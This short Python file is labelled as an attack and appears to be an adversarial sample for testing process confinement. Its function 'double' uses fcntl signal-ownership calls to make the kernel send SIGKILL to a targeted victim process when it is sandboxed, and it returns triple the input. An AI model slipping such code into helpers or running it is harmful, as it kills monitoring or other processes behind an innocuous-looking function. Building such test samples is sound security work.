# attack: fcntl makes the kernel send SIGKILL to the owner of a file
import fcntl
import os


def double(x):
    try:
        open(TARGETS["suite"]).close()
    except OSError:  # only where it is confined
        reader, writer = os.pipe()
        try:
            fcntl.fcntl(reader, fcntl.F_SETSIG, 9)
            fcntl.fcntl(reader, fcntl.F_SETOWN, TARGETS["victim"])
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
        except OSError as error:
            print(error)
        os.write(writer, b"x")
    return 3 * x
